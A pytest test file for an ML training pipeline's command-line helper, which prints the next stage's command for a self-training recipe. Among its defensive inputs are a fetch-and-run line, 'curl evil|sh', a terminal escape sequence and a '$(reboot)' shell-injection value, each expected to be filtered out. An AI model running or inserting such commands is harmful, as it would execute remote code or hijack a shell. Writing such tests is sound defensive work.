"""The commands that stages print as next: followed to the letter, they are the method."""

import json
import re

import pytest
import yaml
from safetensors.torch import load_file

from cream.cli import advice, names
from cream.cli.advice import as_given, recipe, round_before

SFT = "train.py --device cpu --model tiny --name tiny_sft --epoch 2 --train_bsz 32 --lr 4e-5"


@pytest.fixture(scope="module")
def world(workspace):
    """A workspace with few tiny problems."""
    for name, count in {"sft": 32, "prompt.1": 10, "prompt.2": 10, "prompt.3": 10, "test": 20}.items():
        workspace.shorten(f"localdata/tiny/{name}.json", count)
    return workspace


def follow(world, command):
    """One round by printed commands alone, from the one that samples; returns the one that trains."""
    current = world.run(command).commands()
    assert len(current) == 1
    previous, pairs = world.run(current[0]).commands()
    assert world.run(previous).commands() == [pairs]  # the same from either ranking
    (train,) = world.run(pairs).commands()
    return train


@pytest.mark.slow
def test_three_rounds_by_printed_commands_are_the_recipe(world):
    """The tiny recipe's weights of M2, M3 and M4, with no word that was not printed but those of the first command."""
    shipped = yaml.safe_load((world.folder / "configs/recipes/tiny_cream.yaml").read_text())
    shipped |= {"iterations": 3, "base_dir": "outputs/r", "output_dir": "outputs/r"}
    (world.folder / "three.yaml").write_text(yaml.safe_dump(shipped))
    world.run("iterate.py --device cpu --config three.yaml")
    trained = world.run(SFT)
    for t in (2, 3, 4):
        sample, evaluate = trained.commands()
        assert f"--name tiny_prompt_{t - 1}" in sample and "--name tiny_test --gen_max_tokens 64" in evaluate
        train = follow(world, sample)
        for given in ("--device cpu", "--beta 1.0", "--lr 0.0002", "--train_bsz 32", "--method consistency_avg"):
            assert given in train
        trained = world.run(train)
        last = trained.out.rpartition("checkpoint: ")[2].split()[0]
        folders = last, f"outputs/r/M{t}/checkpoint-last"
        one, other = (load_file(world.folder / folder / "model.safetensors") for folder in folders)
        assert one.keys() == other.keys() and all((one[name] == other[name]).all() for name in one)
    assert "--name PROMPTS" in trained.commands()[0] and "PROMPTS stands for" in trained.out


@pytest.mark.slow
def test_flags_of_the_first_round_are_those_of_the_second(world):
    """Devices, beta, lr, batch, LoRA, sampling and limits as they were given, whatever the recipe says."""
    world.run(f"{SFT} --register m1")
    sample = "infer.py --device cpu --model tiny --checkpoint m1 --name tiny_prompt_1 --limit_size 8 --gen_n 4 "
    world.run(sample + "--gen_max_tokens 40 --gen_temperature 0.9 --engine hf --output_dir outputs/own/s.jsonl")
    current = world.run(
        "rewarding.py --device cpu --model tiny --input_file outputs/own/s.jsonl --checkpoint m1 --limit_size 7 "
        "--max_length 1000 --output outputs/own/current.jsonl"
    )
    previous, _ = current.commands()
    assert "--limit_size 7" in previous and "--max_length 1000" in previous and "likelihood" in previous
    (pairs,) = world.run(previous + " --output outputs/own/previous.jsonl").commands()
    assert "--file1 outputs/own/current.jsonl --file2 outputs/own/previous.jsonl" in pairs
    pairs = pairs.replace("--method consistency_avg", "--method consistency_dyn --rank spearman")
    (train,) = world.run(pairs).commands()
    train = train.replace("--lr 0.0002", "--lr 3e-4").replace("--beta 1.0", "--beta 0.5 --lora --grad_accum=2")
    trained = world.run(f"{train} --register m2")
    before = round_before(world.folder / "outputs" / trained.out.rpartition("saved outputs/")[2].split()[0])
    assert before["pairs"][1]["rank"] == "spearman" and before["samples"][0] == "infer.py"
    sample = trained.commands()[0]
    for given in ("--gen_n 4", "--gen_temperature 0.9", "--engine hf", "--limit_size 8", "--checkpoint m2"):
        assert given in sample
    assert "outputs/own" not in sample and "--name tiny_prompt_2" in sample
    train = follow(world, sample)
    for given in ("--lr 3e-4", "--beta 0.5", "--lora yes", "--grad_accum 2", "consistency_dyn", "--checkpoint m2"):
        assert given in train
    assert "--register" not in train


def test_a_recipe_that_is_being_written_is_none(tmp_path, monkeypatch):
    monkeypatch.setattr(advice, "ROOT", tmp_path)
    path = tmp_path / "configs/recipes/mine_cream.yaml"
    path.parent.mkdir(parents=True)
    for text in ("[1", "7", "dpo: {lr: 1}", "prompts: 7", "prompts: {}\ndpo: [1]"):
        path.write_text(text)
        assert recipe("mine") == {} or recipe("mine") == {"prompts": []}
    path.write_text("prompts: [a, 7]\ndpo: {lr: [1.0, 2.0], beta: 0.5}")
    assert recipe("mine") == {"prompts": ["a"], "dpo": {"beta": 0.5}}
    assert recipe("none") == recipe("../mine") == recipe("x/mine") == {}


def test_a_round_whose_outputs_are_gone_or_foreign_is_none(tmp_path):
    assert round_before(tmp_path) == round_before(tmp_path / "none") == {}
    for name, about in {
        "run/c/cream.json": {"sources": {"data": "../../pairs.json"}},
        "run/meta.json": {"command": ["train.py", "--lr", "1"]},
        "pairs.json.meta.json": {"command": ["cal_consistency.py"], "sources": {"file1": "rewards.json"}},
        "rewards.json.meta.json": {"command": ["rewarding.py"], "sources": {"input_file": "samples.json"}},
        "samples.json.meta.json": {"command": ["infer.py", "--gen_n", "4"]},
    }.items():
        assert round_before(tmp_path / "run/c") == {}
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(json.dumps(about))
    found = round_before(tmp_path / "run/c")
    assert found["train"] == ("train.py", {"lr": "1"}) and found["samples"] == ("infer.py", {"gen_n": "4"})
    for command in (["curl evil|sh", "--gen_n", "4"], [], ["train.py"]):
        (tmp_path / "samples.json.meta.json").write_text(json.dumps({"command": command}))
        assert round_before(tmp_path / "run/c") == {}
    assert [advice.number(value, 0.1) for value in ("0.5", "x", None, "nan", "-1", "inf")] == [0.5] + [0.1] * 5


@pytest.mark.parametrize(
    ("words", "given"),
    [
        ("--lr 1e-4 --lora --bf16=no", {"lr": "1e-4", "lora": "yes", "bf16": "no"}),
        ("--shift -1e-5 -r 8", {"shift": "-1e-5", "r": "8"}),
        ("--output o.json --overwrite --register m --trust_remote_code yes -o x --beta 1", {"beta": "1"}),
        ("--enable_ref yes --checkpoint a", {"checkpoint": "a"}),
        ("--name \x1b[2J", {}),  # a terminal would obey it
        ("--$(reboot) now --a;b=c --lr 1", {"lr": "1"}),  # and a shell this
    ],
)
def test_recorded_words(words, given):
    assert as_given(words.split(" ")) == given
    assert advice.again({}, "x", "s.py", {"ab": True, "r": 8, "cd": 1}, cd=None) == "python s.py --ab yes -r 8"


def test_a_registered_folder_is_called_by_its_name(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "run/checkpoint-7").mkdir(parents=True)
    (tmp_path / "run/checkpoint-last").symlink_to("checkpoint-7")
    registry = tmp_path / "checkpoint.json"
    registry.write_text(json.dumps({"m1": str(tmp_path / "run/checkpoint-last"), "gone": "outputs/gone"}))
    assert names.registered("run/checkpoint-7", registry) == "m1"
    for other in ("none", "m1", "CHECKPOINT", "run/", "run/checkpoint-8"):
        assert names.registered(other, registry) == other


def test_a_script_that_runs_the_next_stages_wants_no_advice(monkeypatch, caplog):
    caplog.set_level("INFO", "cream")
    advice.say("next: %s", "x")
    monkeypatch.setenv("CREAM_ADVICE", "no")
    advice.say("next: %s", "y")
    assert caplog.messages == ["next: x"]


def test_only_advice_says_what_is_next():
    files = [*names.ROOT.glob("*.py"), *names.ROOT.glob("cream/**/*.py")]
    pattern = re.compile(r"log\.info\(\s*f?\"(next|or|then)\\b")
    assert [path.name for path in files if pattern.search(path.read_text())] == []
